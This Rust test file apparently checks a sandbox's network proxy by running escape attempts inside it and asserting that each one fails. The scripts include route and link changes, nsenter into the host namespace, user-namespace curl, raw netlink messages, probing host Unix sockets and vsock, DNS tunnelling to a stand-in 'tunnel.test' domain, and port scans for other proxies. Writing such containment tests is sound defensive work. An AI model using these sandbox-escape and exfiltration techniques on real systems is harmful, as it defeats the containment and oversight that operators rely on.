//! Attempts to get past the door by what is not a connection: the kernel's own settings, sockets of the host, its services,
//! the ways that names are asked for.

use harness::{Missing, Stage, lacks};

use super::peer::{can_be_shown, script, stage, verdict};

#[test]
fn neither_the_networks_settings_nor_the_hosts_sockets_lead_past_it() {
    if !can_be_shown("attacks on the network's settings") {
        return;
    }
    let stage = stage();
    std::fs::write(stage.outside("with-sockets"), "").expect("written");
    let socket = stage.outside("host.sock").display().to_string();
    let ran = script(
        &stage,
        &r#"
PATH=$PATH:/usr/sbin:/sbin
ip route replace 198.41.0.0/24 dev lo 2>/dev/null && echo route changed
ip route del local default dev lo 2>/dev/null && echo route removed
ip addr add 198.41.0.9/24 dev lo 2>/dev/null && echo address added
ip link add out type veth peer name in 2>/dev/null && echo link made
ip link set lo down 2>/dev/null && echo loopback gone
nsenter --target 1 --net true 2>/dev/null && echo entered
unshare --user --map-root-user --net true 2>/dev/null && unshare --user --map-root-user --net curl -s -m 3 --noproxy '*' http://198.41.0.4/ && echo out by a network of its own
python3 - <<'END'
import socket, struct
try:
    n = socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0)
    body = struct.pack('=BBBBBBBBI', socket.AF_INET, 0, 0, 0, 254, 4, 0, 1, 0) + struct.pack('=HHI', 8, 4, 1)
    n.send(struct.pack('=IHHII', 16 + len(body), 24, 0x605, 1, 0) + body)
    if struct.unpack('=i', n.recv(4096)[16:20])[0] == 0: print('netlink route')
except OSError: pass
for name in ('HOSTSOCK', '\0host-abstract'):
    try:
        s = socket.socket(socket.AF_UNIX); s.connect(name); print('reached', repr(name))
    except OSError: pass
try:
    h = socket.socket(socket.AF_VSOCK, socket.SOCK_STREAM); h.settimeout(2); h.connect((2, 22)); print('reached the hypervisor')
except (OSError, AttributeError): pass
END
echo "still through the door $(curl -sS -m 20 http://site.test/)"
echo "still closed $(curl -s -m 20 -o /dev/null -w '%{http_code}' http://denied.test/)"
"#
        .replace("HOSTSOCK", &socket),
    );
    assert_eq!(
        ran.text(),
        "still through the door what the origin holds\nstill closed 403\n",
        "{}",
        ran.stderr
    );
}

#[test]
fn names_carry_nothing_out_however_many_and_however_long() {
    if !can_be_shown("names as a way out") {
        return;
    }
    let stage = stage();
    let ran = script(
        &stage,
        r#"
python3 - <<'END'
import os, socket, struct
servers = [line.split()[1] for line in open('/etc/resolv.conf') if line.startswith('nameserver')]
def ask(name, kind=1):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(2)
    labels = b''.join(bytes([len(part)]) + part for part in name.split(b'.')) + b'\0'
    try:
        s.sendto(struct.pack('>HHHHHH', 7, 0x100, 1, 0, 0, 0) + labels + struct.pack('>HH', kind, 1), (servers[0], 53))
        return s.recv(4096)
    except OSError: return b''
secret = b'.'.join([b'a' * 63] * 3) + b'.tunnel.test'
for number in range(300): ask(b'%d.' % number + secret[-200:])
for kind in (5, 15, 16, 28, 65, 255): ask(secret, kind)
# More than a name may hold (RFC 1035 section 2.3.4), and labels that lead back to themselves.
ask(b'.'.join([b'a' * 63] * 5) + b'.tunnel.test')
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.sendto(struct.pack('>HHHHHH', 7, 0x100, 1, 0, 0, 0) + b'\xc0\x0c\0\1\0\1', (servers[0], 53))
print('asked')
END
echo "still answered $(curl -sS -m 20 --noproxy '*' http://site.test/)"
"#,
    );
    assert_eq!(
        ran.text(),
        "asked\nstill answered what the origin holds\n",
        "{}",
        ran.stderr
    );
    let queries = std::fs::read(stage.outside("queries")).unwrap_or_default();
    assert!(queries.is_empty(), "{}", String::from_utf8_lossy(&queries));
}

#[test]
fn a_listener_serves_its_own_command_alone() {
    if !can_be_shown("other commands' listeners") {
        return;
    }
    let stage = stage();
    let ran = script(
        &stage,
        r#"
for port in $(seq 3120 3136) 1080 8081 53; do
    [ "$port" = 3128 ] && continue
    curl -s -m 2 -o /dev/null -x "http://127.0.0.1:$port" http://site.test/ && echo "a proxy at $port"
done
for address in 198.41.0.1 10.0.0.1 169.254.1.1; do
    [ "$(curl -s -m 3 -o /dev/null -w '%{http_code}' -x "http://$address:3128" http://denied.test/)" = 200 ] && echo "open by $address"
done
echo looked
"#,
    );
    assert_eq!(ran.text(), "looked\n", "{}", ran.stderr);
}

/// Whether this kernel leads every port to the door.
fn has_every_port(stage: &Stage) -> bool {
    let ran = stage.runner().args(["doctor", "--json"]).ran();
    let has = ran.text().contains("decided by name at every port");
    if !has {
        lacks(
            Missing::EveryPort,
            "connections to any port, past the proxy",
        );
    }
    has
}

#[test]
fn a_program_that_knows_of_no_proxy_is_decided_at_every_port_and_keeps_its_own_servers() {
    if !can_be_shown("every port") {
        return;
    }
    let stage = stage();
    if !has_every_port(&stage) {
        return;
    }
    let ran = script(
        &stage,
        r#"
echo "allowed $(curl -sS -m 20 --noproxy '*' http://site.test:8080/)"
curl -s -m 20 --noproxy '*' http://denied.test:8080/ || echo "denied $?"
python3 - <<'END'
import errno, socket, threading
def said(name, address, family=socket.AF_INET):
    try:
        s = socket.socket(family); s.settimeout(20); s.connect(address); s.sendall(b'GET / HTTP/1.0\r\n\r\n')
        print(name, s.recv(200).split(b'\r\n')[0].decode() or 'nothing')
    except OSError as error: print(name, errno.errorcode.get(error.errno, 'late'))
said('nobody listens', ('site.test', 5432))
said('private', ('10.1.2.3', 5432))
said('of the host', ('198.41.0.1', 7000))
said('the listener itself', ('127.0.0.1', 1))
said('over IPv6', ('2001:db8::1', 8080), socket.AF_INET6)
own = socket.socket(); own.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1); own.bind(('0.0.0.0', 8080)); own.listen(4)
def serve():
    while True:
        c = own.accept()[0]; c.recv(100); c.sendall(b'my own\r\n'); c.close()
threading.Thread(target=serve, daemon=True).start()
said('own server', ('127.0.0.1', 8080))
said('its port elsewhere', ('site.test', 8080))
u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); u.settimeout(20); u.connect((socket.gethostbyname('site.test'), 443))
try: u.send(b'quic'); u.recv(100); print('answered')
except OSError as error: print('datagram', errno.errorcode.get(error.errno, 'late'))
END
"#,
    );
    assert_eq!(
        ran.text(),
        "allowed what the origin holds\ndenied 6\n\
         nobody listens ECONNRESET\nprivate ECONNRESET\nof the host ECONNRESET\nthe listener itself ECONNRESET\n\
         over IPv6 ECONNRESET\nown server my own\nits port elsewhere HTTP/1.0 200 OK\ndatagram ECONNREFUSED\n",
        "{}",
        ran.stderr
    );
    assert_eq!(verdict(&ran, "site.test", 8080).as_deref(), Some("allowed"));
    assert_eq!(
        verdict(&ran, "10.1.2.3", 5432).as_deref(),
        Some("not_allowed_local"),
        "{:#}",
        ran.report["network"]
    );
    // What the door decides is not told as a refusal of the walls.
    let denials = ran.report["denials"].to_string();
    assert!(
        !denials.contains(":8080") && !denials.contains(":5432"),
        "{denials}"
    );
}
